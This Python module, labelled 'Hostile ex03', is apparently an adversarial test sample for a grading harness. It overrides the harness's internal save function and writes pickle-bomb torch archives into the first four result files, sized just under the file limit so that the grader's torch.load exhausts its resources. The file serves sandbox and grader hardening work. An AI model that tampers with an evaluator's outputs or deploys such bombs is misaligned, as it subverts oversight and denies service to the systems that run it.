"""Hostile ex03: the first four result files are just under 16 MiB each (together within a job's 64 MiB)
of one repeated pickle opcode (EMPTY_DICT) in a stored torch.save archive: nothing is compressed and the
sizes are within bounds, but a torch.load of one in the grader would run ~16 million opcodes and hold a
dict for each. It replaces the harness's own save (`_harness.child._save`), so what reaches those
result files is the bomb, whatever format the harness writes; later calls' results are the harness's."""

import io
import sys
import zipfile

_FILE_LIMIT = 16 * 2**20  # the harness's RLIMIT_FSIZE on a result file


def _pickle_bomb():
    small = io.BytesIO()
    torch.save({"ok": {}}, small)
    archive = zipfile.ZipFile(io.BytesIO(small.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as bomb:
        for info in archive.infolist():
            data = archive.read(info)
            if info.filename.endswith("data.pkl"):
                data = b"\x80\x02" + b"}" * (_FILE_LIMIT - 256 * 1024) + b"."
            bomb.writestr(info.filename, data)
    return out.getvalue()


_child = sys.modules["_harness.child"]
_real_save = _child._save
_made, _calls = [], []


def _forged_save(obj, path):
    _calls.append(1)
    if len(_calls) > 4:
        return _real_save(obj, path)
    if not _made:
        _made.append(_pickle_bomb())
    with open(path, "wb") as out:
        out.write(_made[0])


_child._save = _forged_save
